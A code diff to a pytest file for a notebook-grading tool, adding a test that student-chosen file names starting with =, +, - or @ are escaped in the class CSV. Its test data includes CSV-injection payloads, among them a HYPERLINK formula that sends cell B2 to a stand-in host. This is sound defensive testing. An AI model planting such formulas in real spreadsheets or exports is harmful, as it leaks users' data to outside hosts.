@@ -6,6 +6,7 @@ attack touches, the reason must show in the feedback, and the grader (its numpy,
 
 from __future__ import annotations
 
+import csv
 import hashlib
 import json
 import shutil
@@ -17,7 +18,15 @@ import numpy as np
 import pytest
 
 from toynet.grading.assign import AssignmentError, build
-from toynet.grading.grade import Bundle, SubmissionResult, grade_many, grade_submission, write_results
+from toynet.grading.grade import (
+    Bundle,
+    QuestionResult,
+    SubmissionResult,
+    grade_many,
+    grade_submission,
+    write_csv,
+    write_results,
+)
 from toynet.grading.sandbox import Limits
 
 ASSIGNMENTS = Path(__file__).resolve().parent.parent / "assignments"
@@ -249,3 +258,12 @@ def test_a_class_in_parallel_with_csv(layers: Path, tmp_path: Path) -> None:
     write_results(results, tmp_path / "grades")
     rows = (tmp_path / "grades" / "class.csv").read_text().splitlines()
     assert rows[0].startswith("submission,linear_backward") and rows[2].startswith("buggy.ipynb,0,1,1,1,2,5,8")
+
+
+def test_class_csv_never_holds_a_formula(tmp_path: Path) -> None:
+    """A submission's file name is the student's to choose; a spreadsheet runs a cell that starts with = + - @
+    (OWASP's "CSV injection"), so such a name is written as text."""
+    names = ['=HYPERLINK("http://example.invalid/?"&B2,"see")', "+1+1", "-2+3", "@SUM(1)", "fine.ipynb"]
+    results = [SubmissionResult(name, [QuestionResult("q", 1.0, 1.0, "passed")]) for name in names]
+    rows = list(csv.reader(write_csv(results, tmp_path / "class.csv").read_text().splitlines()))
+    assert [row[0] for row in rows[1:]] == ["'" + name for name in names[:-1]] + ["fine.ipynb"]
